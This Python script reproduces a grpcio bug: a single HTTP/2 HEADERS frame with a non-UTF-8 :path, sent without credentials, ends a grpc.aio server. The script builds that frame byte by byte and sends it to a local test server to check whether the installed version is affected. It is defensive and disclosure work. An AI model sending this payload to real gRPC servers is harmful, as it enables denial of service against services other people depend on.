# ruff: noqa: T201 - a script that prints
"""Reproduction for grpcio: one call whose ``:path`` is no UTF-8 ends a ``grpc.aio`` server.

    python docs/repro_grpc_aio_bad_path.py

Exits with 1 if the installed grpcio has the bug (1.85.3 has), with 0 if the server still answers.
Needs grpcio only. Nothing is sent but what any peer without credentials can send: the HTTP/2
preface, SETTINGS, and one HEADERS frame.

The server's task ``AioServer._server_main_loop`` decodes the path of each call before it makes a
task for the call; the UnicodeDecodeError ends the loop and so the server: its socket is closed and
removed, ``wait_for_termination`` of somebody who waits already does not return.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import sys
import tempfile

import grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, SETTINGS = 1, 4
END_STREAM_AND_HEADERS = 5
WAIT_S = 2


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return one HTTP/2 frame."""
    size = len(payload).to_bytes(3, "big")
    return size + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name: bytes, value: bytes) -> bytes:
    """Return a header as an HPACK literal with a new name."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


CALL = b"".join(
    [
        b"\x83\x86",  # :method POST, :scheme http
        b"\x04\x02/\xff",  # :path, two bytes, of which the second begins no character
        b"\x01\x01a",  # :authority
        field(b"te", b"trailers"),
        field(b"content-type", b"application/grpc"),
    ]
)
HOSTILE = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_STREAM_AND_HEADERS, 1, CALL)


class Echo(grpc.GenericRpcHandler):
    """Answers every call with its request."""

    def service(self, handler_call_details: grpc.HandlerCallDetails) -> grpc.RpcMethodHandler:
        """Return the handler of any method."""

        async def echo(request: bytes, _: object) -> bytes:
            return request

        return grpc.unary_unary_rpc_method_handler(echo)


async def answers(target: str) -> bool:
    """Whether the server answers a good call."""
    options = [("grpc.default_authority", "localhost"), ("grpc.use_local_subchannel_pool", 1)]
    async with grpc.aio.insecure_channel(target, options=options) as channel:
        try:
            return await channel.unary_unary("/echo/echo")(b"hello", timeout=5) == b"hello"
        except grpc.RpcError as error:
            print(f"  {error.code().name}: {error.details()}")
            return False


async def main() -> int:
    """Serve, ask, send the hostile bytes, ask again."""
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "grpc.sock")
        server = grpc.aio.server()
        server.add_generic_rpc_handlers((Echo(),))
        server.add_insecure_port(f"unix:{path}")
        await server.start()
        print(f"grpcio {grpc.__version__}")
        print(f"a good call is answered: {await answers(f'unix:{path}')}")
        reader, writer = await asyncio.open_unix_connection(path)
        writer.write(HOSTILE)
        print(f"{len(HOSTILE)} bytes are sent on another connection")
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(WAIT_S):
                while await reader.read(4096):  # a server that dies ends it
                    pass
        writer.close()
        alive = await answers(f"unix:{path}")
        print(f"a good call is answered: {alive}")
        return 0 if alive else 1


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
